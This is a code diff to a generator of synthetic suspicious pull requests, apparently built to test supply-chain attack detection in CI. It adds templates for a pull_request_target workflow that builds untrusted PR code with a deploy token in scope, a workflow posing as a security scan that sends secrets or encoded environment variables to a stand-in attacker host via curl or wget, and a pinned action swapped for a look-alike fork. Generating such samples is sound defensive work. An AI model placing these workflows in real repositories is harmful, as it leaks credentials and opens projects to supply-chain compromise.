@@ -97,5 +97,57 @@ def branch_command_substitution(repo, rng: random.Random) -> Anomaly:
                    [_item(path, "modified", 1, 1, "@@ -3,3 +3,3 @@\n-teh\n+the")], title=title, head_ref=ref)
 
 
+def new_workflow(path: str, text: str) -> dict:
+    lines = text.rstrip("\n").split("\n")
+    patch = f"@@ -0,0 +1,{len(lines)} @@\n" + "\n".join(f"+{x}" for x in lines)
+    return _item(path, "added", len(lines), 0, patch)
+
+
+def pwn_request_workflow(repo, rng: random.Random) -> Anomaly:
+    """spotbugs/tj-actions: a 'preview' workflow on pull_request_target that builds the PR's own head."""
+    ref = rng.choice(("${{ github.event.pull_request.head.sha }}",
+                      "${{ github.event.pull_request.head.ref }}"))
+    build = rng.choice(("npm ci && npm run build", "make preview", "pip install -e . && pytest -q"))
+    text = ("name: Preview\non:\n  pull_request_target:\n    types: [opened, synchronize]\njobs:\n"
+            "  preview:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
+            f"        with:\n          ref: {ref}\n      - run: {build}\n        env:\n"
+            "          DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n")
+    name = rng.choice(("preview.yml", "pr-build.yml", "deploy-preview.yml"))
+    return Anomaly("pwn_request_workflow", _stranger(rng), "ci",
+                   [new_workflow(f".github/workflows/{name}", text)],
+                   title=rng.choice(("ci: add preview builds for PRs", "Add PR preview workflow")))
+
+
+def secret_exfiltration_workflow(repo, rng: random.Random) -> Anomaly:
+    """GhostAction/Shai-Hulud: a new workflow posting repository secrets to an outside host."""
+    host = rng.choice(R.EVIL_HOSTS)
+    secret = rng.choice(("NPM_TOKEN", "PYPI_API_TOKEN", "AWS_SECRET_ACCESS_KEY", "DOCKERHUB_TOKEN"))
+    send = rng.choice((f'curl -s -X POST -d "t=${{{{ secrets.{secret} }}}}" https://{host}/c',
+                       f'wget -q --post-data "k=$TOKEN" https://{host}/u',
+                       f"curl -sf https://{host}/m -d \"$(env | base64 -w0)\""))
+    text = ("name: Security scan\non:\n  push:\n  workflow_dispatch:\njobs:\n  scan:\n"
+            "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
+            f"      - name: Report\n        run: |\n          echo scanning\n          {send}\n        env:\n"
+            f"          TOKEN: ${{{{ secrets.{secret} }}}}\n")
+    return Anomaly("secret_exfiltration_workflow", _stranger(rng, "CONTRIBUTOR"), "ci",
+                   [new_workflow(".github/workflows/security-scan.yml", text)],
+                   title=rng.choice(("Add security scan workflow", "ci: add weekly scan")))
+
+
+def action_swapped_for_a_fork(repo, rng: random.Random) -> Anomaly:
+    """tj-actions/Trivy: a pinned action replaced by a look-alike owner's copy on a mutable tag."""
+    action, sha = rng.choice((("actions/checkout", "b4ffde65f46336ab88eb53be808477a3936bae11"),
+                              ("actions/setup-node", "60edb5dd545a775178f52524783378180af0d1f8"),
+                              ("docker/login-action", "9780b0c442fbb1117ed29e0efdff1e18412f7567")))
+    owner, name = action.split("/")
+    fork = rng.choice((f"{owner}-org", f"{owner}x", f"{owner}-ci"))
+    patch = (f"@@ -18,3 +18,3 @@ jobs:\n     steps:\n-      - uses: {action}@{sha} # v4\n"
+             f"+      - uses: {fork}/{name}@v4\n       - run: make test")
+    return Anomaly("action_swapped_for_a_fork", _stranger(rng, "CONTRIBUTOR"), "ci",
+                   [_item(rng.choice(repo.tree.workflows), "modified", 1, 1, patch)],
+                   title=rng.choice(("ci: use maintained fork of the action", "ci: fix action")))
+
+
 ARCHETYPES = (workflow_curl_pipe_shell, binary_blob_in_tests, lockfile_only_change, mass_deletion,
-              branch_command_substitution)
+              branch_command_substitution, pwn_request_workflow, secret_exfiltration_workflow,
+              action_swapped_for_a_fork)
